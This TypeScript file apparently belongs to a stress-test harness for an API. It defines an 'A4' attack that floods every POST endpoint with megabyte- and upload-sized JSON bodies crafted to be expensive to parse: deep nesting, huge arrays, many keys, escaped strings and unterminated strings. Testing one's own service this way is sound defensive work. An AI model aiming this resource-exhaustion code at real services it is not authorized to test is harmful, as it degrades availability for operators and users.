import { wire } from '@shenpi/sdk'
import type { Call } from '@shenpi/sdk/contract/call'
import { createAccount } from '../../submissions.ts'
import { type Attack, keepAt } from '../target.ts'

const BODIES_AT_ONCE = 4
const [MEGABYTE, UPLOAD_MAX] = [1024 * 1024, 10 * 1024 * 1024]

/** JSON that fills so many bytes, in the ways that cost a reader the most. */
const SHAPES: readonly ((bytes: number, member: string) => string)[] = [
  (bytes, member) => `{"${member}":[${'0,'.repeat((bytes - 40) / 2)}0]}`,
  (bytes, member) => `{"${member}":[${'{},'.repeat((bytes - 40) / 3)}0]}`,
  (bytes) => '['.repeat(bytes / 2 - 1) + ']'.repeat(bytes / 2 - 1),
  (bytes, member) => `{"${member}":${'['.repeat((bytes - 40) / 2)}${']'.repeat((bytes - 40) / 2)}}`,
  (bytes) => `{${Array.from({ length: (bytes - 20) / 10 }, (_, index) => `"${index.toString(36)}":1`).join()}}`,
  (bytes, member) => `{"${member}":"${'\\u0041'.repeat((bytes - 40) / 6)}"}`,
  (bytes, member) => `{"${member}":"${'"'.repeat(bytes - 40)}`,
]

/** A4: the largest body of every call that takes one, by an account and by strangers. */
export const largestBodies: Attack = async ({ url, ...target }) => {
  const { token } = await createAccount({ url, ...target })
  const calls = Object.values(wire)
    .flatMap((subject): Call[] => Object.values(subject).filter(isCall))
    .filter(({ methods }) => methods.includes('POST'))
  const made = new Map<string, string>()
  const bodyOf = (bytes: number, shape: number, member: string) => {
    const key = `${bytes} ${shape} ${member}`
    const body = made.get(key) ?? (SHAPES[shape] as (typeof SHAPES)[number])(bytes, member)
    // A few of each kind are kept, so that making them does not limit the attack.
    if (made.size < 100) made.set(key, body)
    return body
  }
  return async () => {
    let count = 0
    keepAt(BODIES_AT_ONCE, async () => {
      const call = calls[count % calls.length] as Call
      const shape = Math.floor(count / calls.length) % SHAPES.length
      count += 1
      const member = Object.keys(call.request.properties ?? {})[0] ?? 'a'
      const query = call.authorized && count % 8 ? `?access_token=${token}` : ''
      const body = bodyOf(call.body === 'upload' ? UPLOAD_MAX : MEGABYTE, shape, member)
      const answer = await fetch(`${url}${call.path}${query}`, { method: 'POST', body })
      await answer.text()
    })
  }
}

const isCall = (value: unknown): value is Call => typeof value === 'object' && value !== null && 'path' in value
